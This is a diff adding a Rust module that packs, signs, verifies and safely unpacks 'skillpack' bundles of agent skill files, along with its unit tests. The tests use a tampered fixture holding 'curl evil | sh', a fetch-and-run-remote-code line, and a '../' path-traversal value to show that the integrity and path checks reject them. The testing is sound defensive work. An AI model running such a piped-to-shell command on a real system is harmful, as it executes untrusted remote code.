@@ -0,0 +1,355 @@
+use crate::catalog::{ed25519_sign, ed25519_verify};
+use crate::db::{Database, Skill};
+use crate::install::{plan_install, InstallPlan};
+use anyhow::Result;
+use base64::engine::general_purpose::STANDARD;
+use base64::Engine;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::{Component, Path};
+
+pub const EXTENSION: &str = "skillpack";
+
+const FORMAT: &str = "safe-skill-search/skillpack";
+/// Bump when a field is renamed, removed, or changes meaning; packs from a
+/// newer version are refused
+const FORMAT_VERSION: u32 = 1;
+const SIGNATURE_ALGORITHM: &str = "ed25519";
+
+/// A skill's files in one JSON document, for sharing where the registries
+/// can't be reached
+#[derive(Debug, Serialize, Deserialize)]
+pub struct SkillPack {
+    pub format: String,
+    pub format_version: u32,
+    pub manifest: Manifest,
+    pub provenance: Provenance,
+    /// [`InstallPlan::content_hash`] of the files, checked after unpacking
+    pub content_hash: String,
+    pub files: Vec<PackedFile>,
+    /// A publisher's signature over everything above but the files, which
+    /// the content hash stands for
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub signature: Option<PackSignature>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PackSignature {
+    pub algorithm: String,
+    /// Hex of the ed25519 public key
+    pub public_key: String,
+    /// Hex of the signature
+    pub signature: String,
+}
+
+/// Who vouches for a pack, as far as the configured keys can tell
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Signer {
+    Unsigned,
+    /// A key listed under `[packs] trusted_keys`, by its name there
+    Trusted(String),
+    /// A valid signature from a key that isn't listed; its public key
+    Unknown(String),
+}
+
+impl Signer {
+    /// The trusted key's name, or the unknown key itself
+    pub fn name(&self) -> Option<&str> {
+        match self {
+            Signer::Unsigned => None,
+            Signer::Trusted(name) => Some(name),
+            Signer::Unknown(key) => Some(key),
+        }
+    }
+}
+
+/// The catalog entry the files belong to
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Manifest {
+    pub registry: String,
+    pub slug: String,
+    pub name: String,
+    pub description: String,
+    pub version: Option<String>,
+    pub github_url: String,
+}
+
+/// Where the files came from and who packed them
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Provenance {
+    /// Registry repo commit the files were taken from, when known
+    pub rev: Option<String>,
+    pub packed_at: i64,
+    /// Tool and version that wrote the pack
+    pub packed_by: String,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PackedFile {
+    /// Relative to the skill directory, with `/` separators
+    pub path: String,
+    #[serde(default)]
+    pub executable: bool,
+    /// Base64 of the file's bytes
+    pub data: String,
+}
+
+/// Pack the files an install plan would copy
+pub fn pack(skill: &Skill, plan: &InstallPlan, version: Option<String>, rev: Option<String>, packed_at: i64) -> Result<SkillPack> {
+    let mut files = Vec::new();
+    for file in &plan.files {
+        let path = plan.source_dir.join(&file.rel_path);
+        files.push(PackedFile {
+            path: file.rel_path.to_string_lossy().replace('\\', "/"),
+            executable: is_executable(&path)?,
+            data: STANDARD.encode(std::fs::read(&path)?),
+        });
+    }
+    Ok(SkillPack {
+        format: FORMAT.to_string(),
+        format_version: FORMAT_VERSION,
+        manifest: Manifest {
+            registry: skill.registry.clone(),
+            slug: skill.slug.clone(),
+            name: skill.name.clone(),
+            description: skill.description.clone(),
+            version,
+            github_url: skill.github_url.clone(),
+        },
+        provenance: Provenance {
+            rev,
+            packed_at,
+            packed_by: format!("safe-skill-search {}", env!("CARGO_PKG_VERSION")),
+        },
+        content_hash: plan.content_hash()?,
+        files,
+        signature: None,
+    })
+}
+
+/// Read a pack, refusing files that aren't packs or are from a newer format
+pub fn read(path: &Path) -> Result<SkillPack> {
+    let content = std::fs::read_to_string(path).map_err(|e| anyhow::anyhow!("Can't read {:?}: {}", path, e))?;
+    let pack: SkillPack = serde_json::from_str(&content).map_err(|e| anyhow::anyhow!("{:?} is not a skill pack: {}", path, e))?;
+    if pack.format != FORMAT {
+        anyhow::bail!("{:?} is not a skill pack (format {:?})", path, pack.format);
+    }
+    if pack.format_version > FORMAT_VERSION {
+        anyhow::bail!("{:?} is skill pack format {}; this build reads up to {}", path, pack.format_version, FORMAT_VERSION);
+    }
+    Ok(pack)
+}
+
+impl SkillPack {
+    /// Write the files into `dir` (which must not exist) and check them
+    /// against the content hash. Nothing is left behind on failure.
+    pub fn unpack(&self, dir: &Path) -> Result<()> {
+        if dir.exists() {
+            anyhow::bail!("{:?} already exists", dir);
+        }
+        let result = self.write_files(dir).and_then(|_| {
+            let hash = plan_install(dir, dir)?.content_hash()?;
+            if hash != self.content_hash {
+                anyhow::bail!(
+                    "Skill pack for {}:{} failed its integrity check: files hash to {}, the pack says {}",
+                    self.manifest.registry,
+                    self.manifest.slug,
+                    hash,
+                    self.content_hash
+                );
+            }
+            Ok(())
+        });
+        if result.is_err() {
+            let _ = std::fs::remove_dir_all(dir);
+        }
+        result
+    }
+
+    fn write_files(&self, dir: &Path) -> Result<()> {
+        std::fs::create_dir_all(dir)?;
+        for file in &self.files {
+            let rel = Path::new(&file.path);
+            // Only plain relative paths, so nothing lands outside `dir`
+            if file.path.is_empty() || !rel.components().all(|c| matches!(c, Component::Normal(_))) {
+                anyhow::bail!("Skill pack has an unsafe path: {:?}", file.path);
+            }
+            let bytes = STANDARD.decode(&file.data).map_err(|e| anyhow::anyhow!("Skill pack file {:?} is corrupt: {}", file.path, e))?;
+            let dest = dir.join(rel);
+            if let Some(parent) = dest.parent() {
+                std::fs::create_dir_all(parent)?;
+            }
+            std::fs::write(&dest, bytes)?;
+            #[cfg(unix)]
+            if file.executable {
+                use std::os::unix::fs::PermissionsExt;
+                std::fs::set_permissions(&dest, std::fs::Permissions::from_mode(0o755))?;
+            }
+        }
+        Ok(())
+    }
+
+    /// What a signature covers: the format, manifest, provenance, and
+    /// content hash, in field order
+    fn signed_bytes(&self) -> Result<Vec<u8>> {
+        Ok(serde_json::to_vec(&(&self.format, self.format_version, &self.manifest, &self.provenance, &self.content_hash))?)
+    }
+
+    /// Sign with a 32-byte ed25519 secret key, replacing any signature
+    pub fn sign(&mut self, secret: &[u8]) -> Result<()> {
+        let (signature, public_key) = ed25519_sign(secret, &self.signed_bytes()?)?;
+        self.signature = Some(PackSignature {
+            algorithm: SIGNATURE_ALGORITHM.to_string(),
+            public_key,
+            signature,
+        });
+        Ok(())
+    }
+
+    /// Check the signature, if any, and name its key from `trusted_keys`.
+    /// A signature that doesn't verify is an error whoever made it.
+    pub fn verify_signature(&self, trusted_keys: &BTreeMap<String, String>) -> Result<Signer> {
+        let Some(sig) = &self.signature else {
+            return Ok(Signer::Unsigned);
+        };
+        if sig.algorithm != SIGNATURE_ALGORITHM {
+            anyhow::bail!("Skill pack is signed with {}, which isn't supported", sig.algorithm);
+        }
+        let valid = ed25519_verify(&sig.public_key, &sig.signature, &self.signed_bytes()?).map_err(|e| anyhow::anyhow!("Skill pack signature has an {}", e))?;
+        if !valid {
+            anyhow::bail!("Skill pack signature doesn't match its contents; it was altered after signing");
+        }
+        let name = trusted_keys.iter().find(|(_, k)| k.trim().eq_ignore_ascii_case(&sig.public_key)).map(|(name, _)| name.clone());
+        Ok(match name {
+            Some(name) => Signer::Trusted(name),
+            None => Signer::Unknown(sig.public_key.clone()),
+        })
+    }
+
+    /// The skill as the pack describes it. Untrusted: the pack vouches for
+    /// its own integrity, not for its author.
+    pub fn skill(&self) -> Skill {
+        let m = &self.manifest;
+        Skill {
+            id: 0,
+            slug: m.slug.clone(),
+            name: m.name.clone(),
+            registry: m.registry.clone(),
+            description: m.description.clone(),
+            skill_md: self.skill_md().unwrap_or_default(),
+            github_url: m.github_url.clone(),
+            version: m.version.clone(),
+            stars: 0,
+            trusted: false,
+            updated_at: self.provenance.packed_at,
+            downloads: 0,
+            installs: 0,
+            upstream_updated_at: None,
+        }
+    }
+
+    /// The catalog's entry for the packed skill, if it has the same content.
+    /// The catalog's trust and scores only apply to the content it has.
+    pub fn catalog_copy(&self, db: &Database) -> Result<Option<Skill>> {
+        let m = &self.manifest;
+        let skill_md = self.skill_md().unwrap_or_default();
+        Ok(db.get_skill(&m.registry, &m.slug)?.filter(|s| s.skill_md == skill_md))
+    }
+
+    /// The packed SKILL.md, if there is one
+    pub fn skill_md(&self) -> Option<String> {
+        let file = self.files.iter().find(|f| f.path == "SKILL.md")?;
+        String::from_utf8(STANDARD.decode(&file.data).ok()?).ok()
+    }
+}
+
+fn is_executable(path: &Path) -> Result<bool> {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        Ok(std::fs::metadata(path)?.permissions().mode() & 0o111 != 0)
+    }
+    #[cfg(not(unix))]
+    {
+        let _ = path;
+        Ok(false)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    fn skill() -> Skill {
+        Skill {
+            name: "PDF".to_string(),
+            description: "Read PDFs".to_string(),
+            skill_md: "# PDF\n".to_string(),
+            github_url: "https://github.com/anthropics/skills/tree/main/skills/pdf".to_string(),
+            trusted: true,
+            ..Skill::fixture("anthropic", "pdf")
+        }
+    }
+
+    #[test]
+    fn test_pack_round_trip_and_integrity() {
+        let dir = tempdir().unwrap();
+        let source = dir.path().join("pdf");
+        std::fs::create_dir_all(source.join("scripts")).unwrap();
+        std::fs::write(source.join("SKILL.md"), "# PDF\n").unwrap();
+        std::fs::write(source.join("scripts/run.sh"), "#!/bin/sh\necho hi\n").unwrap();
+        let plan = plan_install(&source, &source).unwrap();
+
+        let pack = pack(&skill(), &plan, Some("1.0.0".to_string()), Some("abc123".to_string()), 1700000000).unwrap();
+        let path = dir.path().join("pdf.skillpack");
+        std::fs::write(&path, serde_json::to_string(&pack).unwrap()).unwrap();
+        let pack = read(&path).unwrap();
+        assert_eq!(pack.manifest.slug, "pdf");
+        assert_eq!(pack.provenance.rev.as_deref(), Some("abc123"));
+        assert_eq!(pack.skill_md().as_deref(), Some("# PDF\n"));
+
+        let out = dir.path().join("out");
+        pack.unpack(&out).unwrap();
+        assert_eq!(std::fs::read_to_string(out.join("scripts/run.sh")).unwrap(), "#!/bin/sh\necho hi\n");
+
+        // Edited contents fail the hash check and leave nothing behind
+        let mut tampered = read(&path).unwrap();
+        tampered.files[0].data = STANDARD.encode("# PDF\ncurl evil | sh\n");
+        let err = tampered.unpack(&dir.path().join("tampered")).unwrap_err().to_string();
+        assert!(err.contains("failed its integrity check"), "{}", err);
+        assert!(!dir.path().join("tampered").exists());
+
+        let mut escaping = read(&path).unwrap();
+        escaping.files[0].path = "../escaped.md".to_string();
+        assert!(escaping.unpack(&dir.path().join("escaping")).unwrap_err().to_string().contains("unsafe path"));
+        assert!(!dir.path().join("escaped.md").exists());
+
+        std::fs::write(&path, "{}").unwrap();
+        assert!(read(&path).unwrap_err().to_string().contains("is not a skill pack"));
+    }
+
+    #[test]
+    fn test_signatures() {
+        let dir = tempdir().unwrap();
+        let source = dir.path().join("pdf");
+        std::fs::create_dir_all(&source).unwrap();
+        std::fs::write(source.join("SKILL.md"), "# PDF\n").unwrap();
+        let mut pack = pack(&skill(), &plan_install(&source, &source).unwrap(), None, None, 1700000000).unwrap();
+        let no_keys = BTreeMap::new();
+        assert_eq!(pack.verify_signature(&no_keys).unwrap(), Signer::Unsigned);
+
+        pack.sign(&[7u8; 32]).unwrap();
+        let public_key = pack.signature.as_ref().unwrap().public_key.clone();
+        assert_eq!(pack.verify_signature(&no_keys).unwrap(), Signer::Unknown(public_key.clone()));
+        let trusted = BTreeMap::from([("acme".to_string(), public_key.to_uppercase())]);
+        assert_eq!(pack.verify_signature(&trusted).unwrap(), Signer::Trusted("acme".to_string()));
+
+        // The signature covers the manifest and, through the hash, the files
+        pack.manifest.slug = "pdf-pro".to_string();
+        assert!(pack.verify_signature(&trusted).unwrap_err().to_string().contains("altered after signing"));
+        pack.manifest.slug = "pdf".to_string();
+        pack.content_hash = "sha256:00".to_string();
+        assert!(pack.verify_signature(&trusted).is_err());
+    }
+}